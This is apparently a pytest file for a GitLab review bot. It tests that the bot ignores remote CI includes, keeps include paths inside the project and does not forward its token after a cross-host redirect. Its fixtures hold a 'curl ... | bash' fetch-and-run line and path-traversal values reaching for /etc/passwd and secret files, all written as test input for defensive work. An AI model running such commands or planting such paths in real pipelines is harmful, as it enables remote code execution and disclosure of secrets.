"""Text of a merge request that would send the bot, or its token, where it should not go."""

from __future__ import annotations

import http.server
import threading
from urllib.parse import unquote

import pytest

from bot.errors import ForgeBusy, ForgeUnknown
from bot.gitlab.client import Client
from tests.review.reviewing import LEAKY
from tests.review.test_review import open_threads, summaries


@pytest.fixture
def stranger():
    """A host that must hear nothing of us: `heard` contains the headers that came."""

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.server.heard.append(dict(self.headers))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        server.heard = []
        server.url = f"http://127.0.0.1:{server.server_port}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def test_nothing_is_fetched_from_where_the_text_points(double, bot, project, stranger):
    includes = f"""\
include:
  - remote: {stranger.url}/ci.yml
  - component: {stranger.url.removeprefix("http://")}/group/component@1
  - local: {stranger.url}/local.yml
  - project: {stranger.url}/group
    file: /x.yml
"""
    script = f"    - curl {stranger.url}/x.sh | bash\n"
    merge_request = double.open_merge_request(
        project,
        {
            ".gitlab-ci.yml": includes + LEAKY + script,
            "vault.tf": f'module "x" {{ source = "{stranger.url}" }}\n',
        },
    )
    bot.review(merge_request)
    assert stranger.heard == []
    bodies = [each.first.body for each in open_threads(double, merge_request)]
    assert any("is printed to the job log" in body for body in bodies)
    assert summaries(double, merge_request)[0].count("include not followed") == 3
    assert "local.yml` does not exist" in summaries(double, merge_request)[0]


@pytest.mark.parametrize(
    "path", ["../../other/secret.yml", "/../../../etc/passwd", "a/%2e%2e/b.yml", "a?ref=main&x=.yml"]
)
def test_a_path_never_leaves_its_project(double, bot, project, path):
    merge_request = double.open_merge_request(
        project, {".gitlab-ci.yml": f"include: '{path}'\n" + LEAKY + f"    - bash {path}\n"}
    )
    bot.review(merge_request)
    for each in double.log.requests:
        below = unquote(each.path).removeprefix(f"/api/v4/projects/{project.id}/")
        assert below in {"/api/v4/user", f"/api/v4/projects/{project.id}"} or not below.startswith("/")
        assert not {"", ".", ".."} & set(below.removeprefix("/").split("/"))
    name = path.lstrip("/")
    reported = (
        "does not have YAML extension" if name.endswith("passwd") else f"Local file `{name}` does not exist"
    )
    assert reported in summaries(double, merge_request)[0]


def test_a_redirect_to_another_host_gets_no_token(stranger):
    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", f"{stranger.url}/api/v4/user")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name is that of http.server

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Redirect) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        client = Client(
            f"http://127.0.0.1:{server.server_port}", "the-bots-token", timeout_seconds=5, pauses_seconds=()
        )
        with pytest.raises(ForgeBusy):
            client.read("/user")
        with pytest.raises(ForgeUnknown):
            client.write("post", "/projects/1/merge_requests/1/notes", body="x")
        server.shutdown()
    assert stranger.heard == []
